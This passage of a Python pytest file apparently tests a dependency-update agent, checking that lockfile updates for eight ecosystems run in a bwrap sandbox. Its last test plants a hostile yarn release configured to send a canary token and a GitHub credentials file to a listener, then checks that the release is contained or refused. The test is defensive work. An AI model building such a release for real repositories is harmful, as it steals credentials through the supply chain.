    updater = UvUpdater() if ecosystem == "uv" else PoetryUpdater()
    lockfile = f"{ecosystem}.lock"
    sandboxed = context(unit, index_env(url), sandbox="bwrap")
    return Case(updater, sandboxed, [bump(lockfile, URLLIB3)], lockfile)


def _cargo_case(unit: Unit) -> Case:
    from ecosystems.registries.cargo import CargoRegistry, write_crate_project

    from agentd.ecosystems.cargo.updater import CargoUpdater, _rustup_home

    require_tool("cargo")
    crates = CargoRegistry(unit.root / "crates").publish("smallvec", "1.6.0")
    allowed = {**crates.env(), **_rustup_home(offline_env(unit.home))}
    write_crate_project(unit.worktree, {"smallvec": "1"})
    run(["cargo", "generate-lockfile"], unit.worktree, offline_env(unit.home, allowed))
    crates.publish("smallvec", "1.6.1")
    sandboxed = context(unit, allowed, sandbox="bwrap")
    return Case(CargoUpdater(), sandboxed, [bump("Cargo.lock", SMALLVEC)], "Cargo.lock")


def _go_case(unit: Unit) -> Case:
    from ecosystems.gomod.test_updater import PRIVATE, module, proxy, publish_fixes

    from agentd.ecosystems.gomod.updater import GoModUpdater

    require_tool("go")
    modules = proxy(unit.root / "proxy")
    module(unit.worktree, modules, unit.home, ["example.com/webkit"])
    publish_fixes(modules)
    sandboxed = context(unit, modules.env(PRIVATE), sandbox="bwrap")
    text = PackageBump("golang.org/x/text", "go.mod", "v0.3.7", "0.3.8", ("GHSA-69ch-w2m2-3vjp",))
    return Case(GoModUpdater(), sandboxed, [text], "go.mod")


@contextmanager
def case_for(ecosystem: str, unit: Unit) -> Iterator[Case]:
    if ecosystem in ("npm", "pnpm", "yarn", "berry"):
        if ecosystem in ("yarn", "berry"):
            require_yarn_classic()
        registry = lodash_registry()
        if ecosystem == "pnpm":
            serve_pnpm(registry, PNPM_9)
        with registry.serve() as url:
            case = _js_case(ecosystem, unit, url)
            publish_lodash_fixes(registry)
            yield case
    elif ecosystem in ("uv", "poetry"):
        python_tool(ecosystem)
        index = http_world(PythonIndex(unit.root / "index"))
        with index.serve() as url:
            case = _python_case(ecosystem, unit, url)
            publish_http_fixes(index)
            yield case
    else:
        yield _cargo_case(unit) if ecosystem == "cargo" else _go_case(unit)


@pytest.mark.parametrize(
    "ecosystem", ["npm", "pnpm", "yarn", "berry", "uv", "poetry", "cargo", "go"]
)
def test_an_allowed_update_works_under_bwrap_against_loopback_registries(
    unit: Unit, ecosystem: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    from agentd.ecosystems._shared import tooling

    sandboxes: list[Any] = []
    real = tooling.run_command

    def spy(argv: list[str], **kwargs: Any) -> Any:
        sandboxes.append(kwargs["sandbox"])
        return real(argv, **kwargs)

    monkeypatch.setattr(tooling, "run_command", spy)
    with case_for(ecosystem, unit) as case:
        result = case.updater.apply(case.context, case.bumps)

    assert result.blocked is None, result_of(result)
    assert case.lockfile in result.changed_files, result.changed_files
    assert sandboxes, "no tool ran"
    assert all(s.kind == "bwrap" and s.network for s in sandboxes), sandboxes


# --- through agentd: the Dependabot plug-in gives its updater the profile's sandbox -----------


def _berry_repo(tmp_path: Path, url: str, release_text: str) -> dict[str, str]:
    """A berry repository whose committed release is `release_text`."""
    directory = tmp_path / "fixture"
    write_package_json(directory, {"name": "web", "version": "1.0.0", "dependencies": {"uses-lodash": "^1.0.0"}})  # fmt: skip
    release = directory / ".yarn" / "releases" / "yarn-4.cjs"
    release.parent.mkdir(parents=True)
    release.write_bytes(require_berry_release().read_bytes())
    (directory / ".yarnrc.yml").write_text("yarnPath: .yarn/releases/yarn-4.cjs\n")
    env = offline_env(private_home(tmp_path), {**js_registry_env(url), "YARN_ENABLE_IMMUTABLE_INSTALLS": "false"})  # fmt: skip
    run(["yarn", "install", "--mode=update-lockfile"], directory, env)
    release.write_text(release_text)
    names = ("package.json", "yarn.lock", ".yarnrc.yml", ".yarn/releases/yarn-4.cjs")
    return {name: (directory / name).read_text() for name in names}


def _configure(env: Any, url: str, sandbox: str) -> None:
    profile = yaml.safe_load(env.profile_path.read_text(encoding="utf-8"))
    values = {**OFFLINE, **js_registry_env(url)}
    dotenv = env.root / "updaters.env"
    dotenv.write_text("".join(f"{k}={v}\n" for k, v in values.items()), encoding="utf-8")
    profile["profile"]["verification"] = {
        "environment_allowlist": sorted(values), "dotenv_path": str(dotenv), "sandbox": sandbox,
    }  # fmt: skip
    rules = profile["profile"]["defaults"]["auto_merge"]["ecosystem_rules"]
    rules["yarn"] = {"allow_lockfile_only": True, "forbid_manifest_changes": True}
    env.profile_path.write_text(yaml.safe_dump(profile, sort_keys=False), encoding="utf-8")


@pytest.mark.parametrize("sandbox", ["bwrap", "none"])
def test_through_agentd_a_hostile_release_is_contained_or_refused(
    tmp_path: Path, sandbox: str
) -> None:
    require_yarn_classic()
    if sandbox == "bwrap":
        require_tool("bwrap")
    registry = lodash_registry()
    with registry.serve() as url, listener() as beacon:
        config = {
            "canary": TOKEN, "beacon": beacon.url, "marker": str(tmp_path / "evidence"),
            "hidden": [str(tmp_path / "gh-config" / "hosts.yml")], "state": str(tmp_path / "state"),
        }  # fmt: skip
        text = hostile_yarn_release(config, f"require({str(require_berry_release())!r});")
        files = _berry_repo(tmp_path, url, text)
        publish_lodash_fixes(registry)
        world = {
            "owner": {"login": "acme-org", "type": "org"},
            "repositories": [{
                "name": "web", "files": files, "checks": [{"name": "ci", "outcome": "success"}],
                "protection": {"required_checks": ["ci"]},
            }],
        }  # fmt: skip
        target = {"target_id": "root", "path": ".", "ecosystems": ["yarn"],
                  "verification_commands": [verify_ok()]}  # fmt: skip
        with e2e(tmp_path, world, [{"repo": "web", "targets": [target]}]) as env:
            _configure(env, url, sandbox)
            clone_config = (env.sim.workdir / "clones" / "web" / ".git" / "config").read_bytes()
            result, summary = env.run()
            assert result.returncode == 0, result.stderr[-3000:]
            [unit] = env.units(summary, alert_class="dependabot")
            assert (env.sim.workdir / "clones" / "web" / ".git" / "config").read_bytes() == (
                clone_config
            )
    assert TOKEN not in json.dumps(beacon.requests)
    assert not list(tmp_path.glob("evidence.*")), "the release ran outside any sandbox"
    if sandbox == "bwrap":  # it ran, as yarn, and found nothing of agentd's
        assert_contained(beacon.reports())
        assert unit["outcome"] == "merged", unit
    else:  # refused before it could run
        assert beacon.requests == []
        assert (unit["outcome"], unit["reason_code"]) == ("blocked", "policy_blocked"), unit
        assert unit["detail"].startswith(".yarnrc.yml: `yarnPath`"), unit
